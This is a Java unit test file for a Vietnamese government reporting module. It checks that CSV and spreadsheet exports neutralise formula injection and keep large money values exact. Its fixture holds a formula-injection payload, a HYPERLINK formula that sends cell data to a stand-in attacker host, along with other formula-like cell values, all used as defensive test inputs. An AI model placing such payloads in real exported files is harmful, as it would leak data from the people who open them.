package vn.gov.moj.thads.reporting.rest;

import org.junit.jupiter.api.Test;
import vn.gov.moj.thads.reporting.model.Figures;
import vn.gov.moj.thads.reporting.api.ChildRow;
import vn.gov.moj.thads.reporting.api.Children;
import vn.gov.moj.thads.reporting.model.AdministrativeFigures;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import static org.assertj.core.api.Assertions.assertThat;

/** Report exports opened in a spreadsheet program: text never runs as a formula; numbers stay numbers. */
class ReportTablesTest {

    private static final String FORMULA = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Bấm vào đây\")";

    private static final AdministrativeFigures NONE = AdministrativeFigures.of(0, 0, 0, 0, 0, 0);

    private static BigInteger n(long value) {
        return BigInteger.valueOf(value);
    }

    /** Child units named like formulas (the names come from the deployment's reference data). */
    private static Children children() {
        // more cases carried over than carried in: a negative reduction (-250.00 %)
        Figures figures = Figures.of(n(4), n(10), n(0), n(2), n(0), n(0), n(0), n(0), n(0));
        return new Children("19", 2026, LocalDate.of(2026, 3, 31), List.of(
                new ChildRow("19.01", FORMULA, false, true, figures, figures, NONE, null, null, null, 1, 1, false),
                new ChildRow("19.02", "@SUM(A1:A9)", false, true, figures, figures, NONE, null, null, null, 2, 2, false),
                new ChildRow("19.03", "+84 912 000 000", false, true, figures, figures, NONE, null, null, null, 3, 3, false),
                new ChildRow("-19.04", "\tChi cục", false, true, figures, figures, NONE, null, null, null, null, null, false),
                new ChildRow("19.05", "Chi cục THADS huyện Phú Bình", false, true, figures, figures, NONE, null, 7, true, 4, 4, true)), 1);
    }

    @Test
    void csvTextThatLooksLikeAFormulaIsPrefixedWithAQuote() {
        String csv = ReportTables.csv(ReportTables.children(children()));
        assertThat(csv).contains("19.01,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Bấm vào đây\"\")\",")
                .contains("19.02,'@SUM(A1:A9),")
                .contains("19.03,'+84 912 000 000,")
                .contains("'-19.04,'\tChi cục,")
                .contains("19.05,Chi cục THADS huyện Phú Bình,");
        // no cell starts a formula: every cell after a separator or at a line start
        for (String line : csv.split("\r\n")) {
            for (String cell : line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")) {
                String unquoted = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertThat(unquoted).doesNotStartWith("=").doesNotStartWith("@").doesNotStartWith("+");
                if (unquoted.startsWith("-")) {
                    assertThat(unquoted).as("only numbers start with -").matches("-\\d+(\\.\\d+)?");
                }
            }
        }
    }

    @Test
    void csvNumbersStayNumbersIncludingNegativeOnes() {
        String csv = ReportTables.csv(ReportTables.children(children()));
        String row = csv.split("\r\n")[5];
        assertThat(row).startsWith("19.05,Chi cục THADS huyện Phú Bình,false,true,4,10,14,0,14,2,12,0,0,0,0,0,12,0,14,0.00,-250.00,")
                // which targets the results were compared with, and of which report: a CSV passed on says what it is
                .endsWith(",4,4,true,7,true,19,2026,2026-03-31");
    }

    @Test
    void spreadsheetTextThatLooksLikeAFormulaIsTextWithAQuoteAndNumbersAreNumbers() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ReportTables.spreadsheet(new ReportTables.Sheet("children", ReportTables.children(children()))).write(out);
        Map<String, String> parts = unzip(out.toByteArray());
        String sheet = parts.get("xl/worksheets/sheet1.xml");
        String strings = parts.getOrDefault("xl/sharedStrings.xml", "") + sheet;
        assertThat(sheet).doesNotContain("<f>").doesNotContain("<f ");
        assertThat(strings).contains("'=HYPERLINK(").contains("'@SUM(A1:A9)").contains("'+84 912 000 000").contains("'-19.04")
                .doesNotContain(">=HYPERLINK(").doesNotContain(">@SUM");
        assertThat(sheet).contains("<v>-250").contains("<v>14</v>");
    }

    @Test
    void spreadsheetMoneyOfSixteenDigitsIsWrittenDigitForDigit() throws IOException {
        // a province's carried-over money of 1,234,567,890,123,456 VND: a spreadsheet program would show 1,234,567,890,123,460
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ReportTables.spreadsheet(new ReportTables.Sheet("money", List.of(List.of("79", 1_234_567_890_123_456L, 999_999_999_999_999L,
                -1_234_567_890_123_456L, new java.math.BigDecimal("12.34"))))).write(out);
        Map<String, String> parts = unzip(out.toByteArray());
        String sheet = parts.get("xl/worksheets/sheet1.xml");
        String strings = parts.getOrDefault("xl/sharedStrings.xml", "") + sheet;
        assertThat(sheet).doesNotContain("<v>1234567890123456</v>").doesNotContain("<v>-1234567890123456</v>")
                .contains("<v>999999999999999</v>").contains("<v>12.34</v>");
        assertThat(strings).contains(">1234567890123456<").contains(">-1234567890123456<").doesNotContain("'-1234567890123456");
    }

    private static Map<String, String> unzip(byte[] xlsx) throws IOException {
        Path file = Files.createTempFile("report-", ".xlsx");
        try {
            Files.write(file, xlsx);
            Map<String, String> parts = new HashMap<>();
            try (ZipFile zip = new ZipFile(file.toFile())) {
                for (ZipEntry entry : java.util.Collections.list(zip.entries())) {
                    parts.put(entry.getName(), new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8)
                            .replace("&apos;", "'").replace("&quot;", "\"").replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&"));
                }
            }
            return parts;
        } finally {
            Files.delete(file);
        }
    }
}
